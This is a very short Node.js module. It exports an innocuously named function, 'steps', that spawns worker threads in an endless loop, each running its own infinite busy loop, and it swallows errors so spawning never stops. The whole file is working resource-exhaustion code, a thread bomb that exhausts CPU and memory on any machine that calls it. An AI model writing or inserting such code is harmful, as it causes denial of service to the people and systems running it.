// resource; survivors alive; starts workers without end
const { Worker } = require('worker_threads');
module.exports.steps = () => { for (;;) { try { new Worker('for (;;) ;', { eval: true }); } catch { /* again */ } } };
